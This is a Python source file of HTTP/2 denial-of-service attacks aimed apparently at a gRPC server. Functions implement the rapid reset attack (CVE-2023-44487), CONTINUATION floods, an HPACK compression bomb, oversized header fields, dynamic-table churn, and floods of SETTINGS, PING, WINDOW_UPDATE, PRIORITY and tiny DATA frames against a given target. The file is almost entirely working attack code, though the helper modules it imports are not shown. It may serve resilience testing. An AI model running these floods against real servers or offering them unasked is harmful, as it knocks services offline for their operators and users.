"""Attacks by very many frames, each of them as the protocol has it."""

import struct

import h2
import sending


def _reset_flood(target, call, batches):
    """So many batches of calls that are reset at once, on each of three connections, one behind the other."""
    sent, endings = 0, []
    for _ in range(3):
        with h2.Connection(target) as connection:
            for batch in range(batches):
                streams = sending.streams(sending.BATCH, 1 + 2 * sending.BATCH * batch)
                if not connection.send(b"".join(call(stream) + h2.reset(stream) for stream in streams)):
                    break
                sent += sending.BATCH
            endings.append(sending.ending(connection))
    return f"{sending.count(endings)} after {sent} streams"


def rapid_reset(target, scale):
    """Streams that are reset as soon as they are opened (CVE-2023-44487)."""
    block = h2.grpc_headers(sending.VERIFY)
    return _reset_flood(target, lambda stream: h2.headers(stream, block), 500 * scale)


def reset_of_sent_calls(target, scale):
    """The same with whole requests: the handler has begun when the reset comes."""
    block, request = h2.grpc_headers(sending.HEALTH), h2.message(b"")

    def call(stream):
        return h2.headers(stream, block) + h2.frame(h2.DATA, h2.END_STREAM, stream, request)

    return _reset_flood(target, call, 200 * scale)


def continuation_flood(target, scale):
    """A header block that does not end: full CONTINUATION frames without END_HEADERS."""
    fields = b"".join(h2.literal(f"x-{number}", "v" * 100) for number in range(140))
    piece = h2.frame(h2.CONTINUATION, stream=1, payload=fields)
    opening = h2.headers(1, h2.grpc_headers(sending.VERIFY), flags=0)
    return sending.flood(target, (piece for _ in range(4096 * scale)), opening)


def empty_continuations(target, scale):
    """The same without content: only frames."""
    piece = h2.frame(h2.CONTINUATION, stream=1) * 1000
    return sending.flood(target, (piece for _ in range(100 * scale)), h2.headers(1, h2.grpc_headers(sending.VERIFY), flags=0))


def many_fields(target, scale):
    """Calls with 100 KiB of metadata in a thousand fields, where 8 KiB are allowed."""
    block = h2.grpc_headers(sending.VERIFY) + b"".join(h2.literal(f"x-{number}", "v" * 90) for number in range(1000))
    calls = (h2.header_frames(stream, block, flags=h2.END_STREAM) for stream in sending.streams(50 * scale))
    return sending.flood(target, calls)


def giant_field(target, scale):
    """A single field of 16 MiB."""
    del scale
    block = h2.grpc_headers(sending.VERIFY) + h2.literal("x-giant", b"v" * (16 << 20))
    return sending.flood(target, [h2.header_frames(1, block, flags=h2.END_STREAM)])


def hpack_bomb(target, scale):
    """A field of 4,000 bytes, put into the table once and then meant by a byte, 16,000 times in each call."""
    first = h2.grpc_headers(sending.VERIFY) + h2.literal("x-bomb", "v" * 4000, remembered=True)
    bomb = h2.grpc_headers(sending.VERIFY) + h2.indexed(62) * 16000
    calls = (h2.header_frames(stream, bomb, flags=h2.END_STREAM) for stream in sending.streams(20 * scale, 3))
    return sending.flood(target, calls, h2.header_frames(1, first, flags=h2.END_STREAM))


def table_churn(target, scale):
    """Fields that each push the one before out of the table, and table sizes that go up and down."""
    churn = b"".join(h2.literal(f"x-{number}", "v" * 1000, remembered=True) for number in range(7))
    block = h2.hpack_integer(0, 5, 0x20) + h2.hpack_integer(4096, 5, 0x20) + h2.grpc_headers(sending.VERIFY) + churn
    calls = (h2.header_frames(stream, block, flags=h2.END_STREAM) for stream in sending.streams(500 * scale))
    return sending.flood(target, calls)


def settings_flood(target, scale):
    """SETTINGS, which each want an answer, from a client that reads none."""
    piece = h2.settings((h2.SETTINGS_INITIAL_WINDOW_SIZE, 65535)) * 1000
    return sending.flood(target, (piece for _ in range(100 * scale)))


def ping_flood(target, scale):
    """The same with PING."""
    piece = h2.frame(h2.PING, payload=b"12345678") * 1000
    return sending.flood(target, (piece for _ in range(100 * scale)))


def window_update_flood(target, scale):
    """The smallest window updates, of the connection and of a stream."""
    piece = (h2.window_update(0, 1) + h2.window_update(1, 1)) * 500
    return sending.flood(target, (piece for _ in range(100 * scale)), h2.headers(1, h2.grpc_headers(sending.VERIFY)))


def priority_flood(target, scale):
    """PRIORITY of streams that never come."""
    piece = b"".join(
        h2.frame(h2.PRIORITY, stream=stream, payload=struct.pack(">IB", 0, 9)) for stream in sending.streams(1000)
    )
    return sending.flood(target, (piece for _ in range(100 * scale)))


def empty_data(target, scale):
    """DATA without a byte, on a stream that stays open."""
    piece = h2.frame(h2.DATA, stream=1) * 1000
    return sending.flood(target, (piece for _ in range(100 * scale)), h2.headers(1, h2.grpc_headers(sending.VERIFY)))


def tiny_data(target, scale):
    """A message in frames of one byte, as much as the windows let through."""
    piece = h2.frame(h2.DATA, stream=1, payload=b"x") * 1000
    opening = h2.headers(1, h2.grpc_headers(sending.VERIFY)) + h2.frame(h2.DATA, 0, 1, h2.message(b"", length=1 << 19))
    return sending.flood(target, (piece for _ in range(100 * scale)), opening)
